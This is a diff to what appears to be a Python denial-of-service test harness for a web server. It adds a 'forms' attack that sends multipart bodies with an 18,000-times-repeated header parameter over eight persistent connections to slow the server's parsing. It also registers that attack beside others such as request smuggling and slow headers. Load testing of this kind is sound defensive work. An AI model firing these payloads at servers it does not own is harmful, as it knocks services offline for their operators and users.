@@ -265,10 +265,34 @@ def _both(shapes: tuple[bytes, ...], good: bytes) -> Iterator[bytes]:
         yield good + each
 
 
+def forms(attack: Attack) -> None:
+    """Bodies that are slow to take apart as forms, on connections that stay open where they may."""
+    part = b"--x\r\nContent-Disposition: form-data; name=a" + b"; a=b" * 18_000 + b"\r\n\r\nb\r\n--x--\r\n"
+    head = (
+        b"POST /ops HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: %d\r\n\r\n"
+    )
+    data = head % len(part) + part
+    clients = [attack.connect() for _ in range(8)]
+
+    def visit() -> None:
+        for place, client in enumerate(clients):
+            try:
+                client.sendall(data)
+            except OSError:
+                client.close()
+                clients[place] = attack.connect(data)
+        for client in clients:
+            with contextlib.suppress(OSError):
+                client.recv(65536)
+
+    attack.again(visit)
+
+
 ATTACKS: dict[str, Callable[[Attack], None]] = {
     each.__name__: each
     for each in (
         *(slow_heads, slow_frames, half_open, heads, handshakes, garbage, smuggling),
+        forms,
         *(empty_frames, pings, pongs, fragments, endless_fragments, bombs, oversized, tls_garbage),
     )
 }
